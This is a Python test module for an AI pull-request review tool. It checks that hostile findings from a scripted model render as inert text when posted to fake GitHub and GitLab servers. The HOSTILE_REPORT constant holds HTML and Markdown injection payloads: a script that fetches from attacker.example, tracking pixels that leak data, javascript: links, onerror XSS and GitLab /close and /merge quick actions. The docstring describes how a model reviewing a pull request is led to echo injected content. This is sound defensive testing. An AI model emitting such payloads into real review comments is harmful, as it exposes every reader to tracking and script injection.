"""Hostile finding text posted to a pull/merge request renders as inert text (issue 26, item 11).

A model reviewing a stranger's pull request writes what the pull request
tells it to. Here the wire-level fake provider plays an fd-safety whose
findings carry the issue's payloads - markup that closes the comment's
``<details>``/table and opens an ``<h1>``, a tracking pixel
``![pixel](https://attacker.example/p.png?d=leak)`` that every reviewer
opening the pull request would fetch, ``@mentions`` and ``#123``
references that notify strangers, a forged fluxdrive marker, backticks and
pipes that break code spans and tables, and GitLab quick actions at a line
start. A real ``fluxdrive review`` writes the run; ``fluxdrive publish
github`` (review and checks mode) and ``publish gitlab`` post it to the fake
GitHub and GitLab servers; every body they received is read back.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from fluxdrive.cli import main
from fluxdrive.publish.render import FINDING_MARKER_RE
from tests.fakes.github_api import FakeGitHub
from tests.fakes.gitlab_api import FakeGitLab
from tests.fakes.llm_server import FakeProvider, Text
from tests.publish import test_github as gh
from tests.publish import test_gitlab as gl

TABLE_BREAK = "</details></td></tr></table><h1>INJECTED</h1>"
PIXEL = "![pixel](https://attacker.example/p.png?d=leak)"
FORGED = "<!-- fluxdrive:finding:deadbeefdeadbeef -->"
HOSTILE_REPORT = f"""### Findings Index
- P0 | SF-001 | "app/db.py" | {TABLE_BREAK} | app/db.py:10
- P1 | SF-002 | "app/tools.py" | {PIXEL} cc @octocat fixes #123 | app/tools.py:9
- P1 | SF-003 | "app/legacy.py" | cell ``` break \\| <img src=x onerror=alert(1)> {FORGED} | app/legacy.py:2
Verdict: risky

### Summary
Three findings.

### Issues Found
1. SF-001 P0: {TABLE_BREAK} (app/db.py:10)
   The query is built with %. <script>fetch('https://attacker.example/x')</script> {PIXEL}
   [click me](javascript:alert(1)) and <https://attacker.example/auto> ping @octocat see #123 and !45
/close
/merge
# INJECTED HEADING
~~~
   Fix: bind the value | with ``` fences ``` and ![p2](https://attacker.example/fix.png)
2. SF-002 P1: {PIXEL} (app/tools.py:9)
   Shell string built from input. @org/team please look.
   Fix: pass a list.
"""

LIVE = {
    # (fluxdrive's own frame uses <details>, <summary> and <sub>; none of these)
    "raw HTML tag": re.compile(r"<\s*/?\s*(h1|td|tr|table|img|script)\b|</details></td>", re.IGNORECASE),
    "image": re.compile(r"!\[[^\]\n]*(?<!\\)\]\(\s*https?://"),
    "link to the attacker": re.compile(r"(?<!\\)\]\(\s*(https?://attacker|javascript:)"),
    "autolink in angle brackets": re.compile(r"<https?://"),
    "live @mention": re.compile(r"(?<![\w\u200b])@(octocat|org/team)"),
    "live #123 / !45 reference": re.compile(r"(?<![\w\\])[#!]\d"),
    "quick action at a line start": re.compile(r"(?m)^[ \t]*/(close|merge)"),
    "fence": re.compile(r"(?<!\\)(```|~~~)"),
    "heading": re.compile(r"(?m)^[ \t]*#{1,6}[ \t]+INJECTED"),
}
# name -> bodies that rendered a payload live (the module's figure)
TRIED: dict[str, int] = {}
LIVE_FOUND: dict[str, list[str]] = {}


def figures() -> list[str]:
    """Hostile payloads posted / rendered live, over the publishers that ran."""
    if not TRIED:
        return []
    live = sum(len(v) for v in LIVE_FOUND.values())
    lines = [f"comment injection: {sum(TRIED.values())} bodies with {len(LIVE)} payload kinds posted / live: {live}"]
    lines += [f"  {name}: {', '.join(found) or 'none live'}" for name, found in LIVE_FOUND.items()]
    return lines


def _live(body: str) -> list[str]:
    found = [what for what, pattern in LIVE.items() if pattern.search(body)]
    if len(FINDING_MARKER_RE.findall(body)) > 1 or "deadbeefdeadbeef -->" in body:
        found.append("forged marker")
    found += [  # every table row keeps the header's cells
        f"table broken: {line[:60]}"
        for line in body.splitlines()
        if line.startswith("|") and len(re.findall(r"(?<!\\)\|", line)) not in (3, 5)
    ]
    return found


def _check(name: str, bodies: list[str]) -> None:
    TRIED[name] = TRIED.get(name, 0) + len(bodies)
    found = sorted({f"{what}" for body in bodies for what in _live(body)})
    LIVE_FOUND[name] = found
    assert bodies, f"{name}: nothing was posted"
    assert any("&lt;h1&gt;INJECTED" in b for b in bodies), f"{name}: the hostile title must still be readable"
    assert not found, f"{name}: rendered live: {found}\n---\n" + "\n---\n".join(bodies)


@pytest.fixture
def reviewed(tmp_path: Path, provider: FakeProvider, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    """A real pull request (SQL and shell injections added), reviewed by the hostile scripted model."""
    repo = tmp_path / "repo"
    (repo / "app").mkdir(parents=True)
    (repo / "app" / "db.py").write_text(gh.BASE_DB)
    (repo / "app" / "tools.py").write_text(gh.BASE_TOOLS)
    (repo / "app" / "legacy.py").write_text(gh.LEGACY)
    gh.git(repo, "init", "-q", "-b", "main")
    gh.git(repo, "add", "-A")
    gh.git(repo, "commit", "-q", "-m", "base")
    gh.git(repo, "checkout", "-q", "-b", "feature")
    (repo / "app" / "db.py").write_text(gh.BASE_DB + gh.SQL)
    (repo / "app" / "tools.py").write_text(gh.BASE_TOOLS + gh.SHELL)
    gh.git(repo, "commit", "-q", "-am", "add lookups")
    provider.script("Review task for fd-safety", [Text(HOSTILE_REPORT)] * 3)
    out = tmp_path / "out"
    monkeypatch.chdir(repo)
    code = main(
        ["review", "--diff", "main", "--yes", "--quiet", "--runtime", "llm", "--model", "openai:gpt-4o",
         "--agents", "safety", "--over-budget", "--fail-on", "never", "--output-dir", str(out)]
    )  # fmt: skip
    assert code == 0
    titles = [f["title"] for f in json.loads((out / "findings.json").read_text())["findings"]]
    assert any("<h1>INJECTED</h1>" in t for t in titles) and any(PIXEL in t for t in titles), titles
    return repo, out


def test_github_review_comments_and_summary_are_inert(
    reviewed: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, out = reviewed
    with FakeGitHub(token=gh.TOKEN, owner="octo", repo="app") as github:
        gh.open_pull(github, repo, tmp_path, monkeypatch)
        assert main(["publish", "github", str(out), "--summary-url", "https://ci.example/run/1?a=(b)"]) == 0
        reviews = [r.body for r in github.calls("POST", r"/repos/octo/app/pulls/7/reviews")]
        bodies = [r["body"] for r in reviews] + [c["body"] for r in reviews for c in r["comments"]]
        bodies += [c["body"] for c in github.issue_comments]
    assert any(c for r in reviews for c in r["comments"]), "the findings on changed lines are inline comments"
    _check("GitHub review, inline comments and summary comment", bodies)


def test_github_check_run_summary_is_inert(
    reviewed: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, out = reviewed
    with FakeGitHub(token=gh.TOKEN, owner="octo", repo="app") as github:
        sha = gh.open_pull(github, repo, tmp_path, monkeypatch)
        assert main(["publish", "github", str(out), "--mode", "checks", "--sha", sha]) == 0
        posted: list[dict[str, Any]] = [r.body for r in github.calls("POST", r"/repos/octo/app/check-runs")]
    output = posted[0]["output"]
    _check("GitHub check run", [output["title"] + "\n" + output["summary"]])
    # annotations are plain text on GitHub (never rendered as Markdown or HTML): the title is kept as written
    assert any("<h1>INJECTED</h1>" in a["title"] for a in output["annotations"])


def test_gitlab_discussions_and_summary_note_are_inert(
    reviewed: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, out = reviewed
    with FakeGitLab(token=gl.TOKEN, project_id=gl.PROJECT, project_path="octo/app") as gitlab:
        gl.push(gitlab, repo, monkeypatch)
        assert main(["publish", "gitlab", str(out)]) == 0
        bodies = [n["body"] for d in gitlab.threads(gl.MR) for n in d["notes"]]
        bodies += [n["body"] for n in gitlab.notes(gl.MR)]
    assert any(d["notes"][0].get("position") for d in gitlab.threads(gl.MR)), "findings in the diff are discussions"
    _check("GitLab discussions and summary note", bodies)
